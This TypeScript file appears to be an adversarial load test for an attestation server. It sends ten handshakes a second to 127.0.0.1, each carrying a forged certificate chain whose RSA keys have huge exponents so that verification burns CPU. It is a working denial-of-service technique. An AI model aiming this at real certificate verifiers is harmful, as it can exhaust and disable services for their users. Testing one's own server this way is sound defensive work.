import { createPublicKey, generateKeyPairSync, randomBytes } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { z } from 'zod';
import {
  basicConstraints,
  madeAuthority,
  madeCertificate,
} from '../attest-server/verify/made-certificate.ts';
import { run, Tallies } from './attack.ts';
import { frameOf, visit } from './stranger.ts';

/**
 * Ten hellos a second with the public keys of an enrolled node, and with certificates that are dear to follow: each is
 * by the same name, and their keys have exponents as long as their moduli.
 */
const perSecond = 10;
const bits = 3072;
const known = z.looseObject({ ek: z.looseObject({ publicArea: z.string(), certificate: z.string() }) });

await run(async ({ port, ca, hello, seconds }) => {
  const { ek } = known.parse(hello);
  const own = { name: 'Dear authority', ...generateKeyPairSync('rsa', { modulusLength: bits }) };
  const dear = Array.from({ length: 7 }, () => madeAuthority({ ...own, publicKey: dearKey() }, own));
  const certificate = madeCertificate(own, { publicKey: keyOf(ek.certificate), extensions: [] });
  const chain = [
    ...dear,
    madeAuthority(
      own,
      { ...own, privateKey: generateKeyPairSync('rsa', { modulusLength: bits }).privateKey },
      [basicConstraints()],
    ),
  ];
  const text = JSON.stringify({
    ...hello,
    ek: {
      publicArea: ek.publicArea,
      certificate: certificate.toString('base64'),
      chain: chain.map((each) => each.toString('base64')),
    },
  });
  const tallies = new Tallies();
  const [start, all] = [performance.now(), []] as [number, Promise<void>[]];
  for (let count = 0; performance.now() < start + seconds * 1000; ) {
    for (const due = ((performance.now() - start) / 1000) * perSecond; count < due; count++)
      all.push(
        visit(
          {
            host: '127.0.0.1',
            port,
            ca,
            from: '127.0.7.1',
            aim: 'hello',
            frames: [frameOf(text)],
            stays: 3_000,
          },
          tallies,
        ),
      );
    await sleep(20);
  }
  await Promise.race([Promise.all(all), sleep(4_000)]);
  return tallies.all();
});

/** Nobody knows its private half; a signature under it costs as much as one costs to make. */
function dearKey() {
  const n = randomBytes(bits / 8);
  n[0] = 0xff;
  n[n.length - 1] = 0xff;
  const e = randomBytes(bits / 8);
  e[0] = 0x7f;
  e[e.length - 1] = 0xff;
  const jwk = { kty: 'RSA', n: n.toString('base64url'), e: e.toString('base64url') };
  return createPublicKey({ key: jwk, format: 'jwk' });
}

function keyOf(certificate: string) {
  return createPublicKey({
    key: `-----BEGIN CERTIFICATE-----\n${certificate}\n-----END CERTIFICATE-----\n`,
    format: 'pem',
  });
}
